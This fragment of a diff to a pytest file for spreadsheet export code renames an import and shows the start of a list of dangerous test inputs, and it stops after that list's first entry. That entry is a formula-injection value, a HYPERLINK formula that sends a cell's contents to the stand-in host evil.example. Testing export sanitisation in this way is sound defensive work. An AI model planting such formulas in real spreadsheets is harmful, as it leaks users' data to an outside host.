@@ -8,7 +8,7 @@ from decimal import Decimal
 import pytest
 from openpyxl import load_workbook
 
-from incidents.exports import ExportTable, safe_cell, sheet_names, to_csv, to_xlsx
+from reporting.exports import ExportTable, safe_cell, sheet_names, to_csv, to_xlsx
 
 DANGEROUS = (
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
